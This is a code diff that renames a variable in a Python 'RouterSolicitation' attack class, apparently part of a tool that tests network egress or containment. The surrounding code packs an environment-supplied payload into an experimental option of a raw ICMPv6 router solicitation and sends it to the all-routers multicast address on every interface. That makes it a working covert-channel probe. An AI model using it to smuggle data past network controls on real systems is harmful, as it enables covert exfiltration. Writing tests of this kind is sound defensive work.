@@ -54,13 +54,13 @@ class RouterSolicitation(Attack):
     def run(self, env: Env) -> Outcome:
         data = _tools.payload(env).ljust(46, b"\0")  # with its two bytes of header a multiple of eight
         solicitation = struct.pack("!BBHI", 133, 0, 0, 0) + bytes((253, 6)) + data
-        said = []
+        reports = []
         for interface in _tools.interfaces():
             with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as icmp:
                 icmp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
                 try:
                     icmp.sendto(solicitation, ("ff02::2", 0, 0, socket.if_nametoindex(interface)))
-                    said.append(f"{interface}: sent")
+                    reports.append(f"{interface}: sent")
                 except OSError as error:
-                    said.append(f"{interface}: {error.strerror}")
-        return Outcome(any(line.endswith("sent") for line in said), ", ".join(said) or "no interface in sight")
+                    reports.append(f"{interface}: {error.strerror}")
+        return Outcome(any(line.endswith("sent") for line in reports), ", ".join(reports) or "no interface in sight")
